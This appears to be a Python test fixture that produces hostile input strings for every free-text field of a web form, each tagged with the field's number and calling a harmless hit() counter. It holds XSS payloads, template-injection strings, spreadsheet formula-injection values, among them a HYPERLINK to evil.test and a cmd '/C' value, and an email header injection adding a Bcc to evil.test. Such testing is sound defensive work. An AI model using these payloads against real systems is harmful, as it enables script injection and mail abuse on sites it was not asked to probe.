"""What a hostile person types: each kind short enough for the shortest field, and each with the number of its field in it.

Whatever runs calls `hit(number)`, which the browser of the tour counts.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping

SHORTEST = 40
"""Characters that every field of free text takes."""

LONGEST = 200
"""Characters of the longest name that is tried; longer notes are told in full elsewhere."""


def _long(number: int, longest: int) -> str:
    """One word without a place to break it."""
    return f"{number}{'W' * longest}"[: min(longest, LONGEST)]


def _odd(number: int, longest: int) -> str:
    """Right to left, no width at all, a family of one letter, and a letter with more marks than a line is high."""
    marks = "\u0301\u0302\u0303\u0304" * 3
    return f"\u202e{number}\u200b\u200d\u200f\u2066👩\u200d👩\u200d👧🎀e{marks}"[:longest]


KINDS: Mapping[str, Callable[[int, int], str]] = {
    "handler": lambda number, _longest: f'"><img src=x onerror=hit({number})>',
    "script": lambda number, _longest: f"<script>hit({number})</script>",
    "vector": lambda number, _longest: f"'<svg/onload=hit({number})>",
    "address": lambda number, _longest: f"javascript:hit({number})",
    "template": lambda number, _longest: f"{{{{hit({number})}}}}${{hit({number})}}{{ $name }}",
    "formula": lambda number, _longest: f'=HYPERLINK("//evil.test";{number})',
    "at": lambda number, _longest: f"@SUM(1+{number})",
    "plus": lambda number, _longest: f"+{number}+1|'/C x'!A1",
    "header": lambda number, _longest: f"{number}\nBcc: b@evil.test\n\nhit",
    "odd": _odd,
    "long": _long,
}
"""By name; called with the field's number and how much it takes."""


def payload(kind: str, number: int, longest: int | None) -> str:
    return KINDS[kind](number, longest or LONGEST)
